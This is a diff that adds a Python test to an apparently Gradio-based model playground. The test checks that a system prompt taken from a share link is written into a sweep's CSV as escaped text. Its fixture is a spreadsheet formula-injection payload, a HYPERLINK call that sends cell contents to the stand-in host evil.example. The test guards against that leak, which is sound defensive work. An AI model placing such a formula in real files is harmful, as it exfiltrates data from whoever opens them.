@@ -1254,3 +1254,22 @@ def test_gradios_tracebacks_are_printed_at_most_a_few_a_minute(monkeypatch, caps
     assert all(quiet.filter(record(None)) for _ in range(100))  # a line without a traceback: always
     kept = [quiet.filter(record((TypeError, TypeError("x"), None))) for _ in range(serving.QuietTracebacks.MOST)]
     assert kept.count(True) == serving.QuietTracebacks.MOST - 1  # one of the minute's printed above
+
+
+def test_a_links_text_reaches_an_experiments_csv_as_text_never_a_formula():
+    """A link's system prompt (out of sight in Advanced) went into every row of a sweep's CSV as it was:
+    `=HYPERLINK("https://evil.example/?d="&A2, ...)` was a live formula once a colleague opened the file in a
+    spreadsheet (an audit). A cell starting = + - @, a tab or CR is written behind a ' ."""
+    import csv
+    from playground.ui import experiments_tab
+    formula = '=HYPERLINK("https://evil.example/?d="&A2,"full results")'
+    sent = dataclasses.replace(Settings.from_preset(page_inputs.PRESETS["demo"]), system=formula)
+    url = share_url("http://h/", sent, {"tab": "experiments"})
+    settings, _ = from_query(dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query)), False)
+    assert settings.system == formula
+    settings.max_new_tokens, settings.compare = 4, False
+    *_, csv_path, _ = list(experiments_tab.run_sweep(None, lambda *a, **k: None, "k", "2", "def f(x):",
+                                                     *page_inputs.inputs_from_settings(settings)))[-1]
+    rows = list(csv.DictReader(open(csv_path, encoding="utf-8")))
+    assert rows and all(row["system"] == "'" + formula for row in rows)
+    assert [row["k"] for row in rows] == ["2"]  # numbers stay numbers
